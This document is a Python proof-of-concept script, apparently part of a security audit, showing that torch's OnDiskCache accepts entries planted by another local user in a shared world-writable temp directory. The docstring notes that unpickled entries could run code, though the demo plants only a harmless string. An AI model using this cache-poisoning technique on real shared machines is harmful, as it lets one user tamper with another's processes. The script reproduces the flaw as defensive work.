"""OnDiskCache uses a directory that another user owns and everyone can write, and returns the
entries it finds there as genuine. Here the cache directory belongs to uid 65534 (nobody) with
mode 0o777, a process running as that user inserts an entry, and the victim's fresh instance
gets the planted value (and inserts into the directory too). torch's default OnDiskCache
directory is <tempdir>/cache/<name>, shared by every user of the machine, so any local user
who creates it first can plant values or squat keys; since get unpickles the entry, a planted
entry can run code in the victim's process (see SAFE-DISK-NO-CODE). The version prefix guards
against stale formats, not forgery. Needs root (to chown).
"""
import os
import tempfile
from pathlib import Path

from torch._inductor.cache import OnDiskCache

NOBODY = 65534
if os.geteuid() != 0:
    raise SystemExit("run as root: building another user's directory needs chown")
with tempfile.TemporaryDirectory() as tmp:
    os.chmod(tmp, 0o755)
    shared = Path(tmp, "cache")
    shared.mkdir()
    os.chown(shared, NOBODY, NOBODY)
    os.chmod(shared, 0o777)
    pid = os.fork()
    if pid == 0:  # the other user plants an entry
        os.setgid(NOBODY)
        os.setuid(NOBODY)
        attacker = OnDiskCache()
        attacker.base_dir = shared
        os._exit(0 if attacker.insert("key", "planted by uid 65534") else 1)
    assert os.waitpid(pid, 0)[1] == 0, "the other user could not plant the entry"
    victim = OnDiskCache()
    victim.base_dir = shared
    got = victim.get("key")
    print(f"directory owner uid {shared.stat().st_uid}, mode {oct(shared.stat().st_mode & 0o777)}")
    print("victim get('key') ->", repr(got), "; insert('other') ->", victim.insert("other", 1))
    if got == "planted by uid 65534":
        print("DEVIATION REPRODUCED")
        raise SystemExit(0)
raise SystemExit(1)
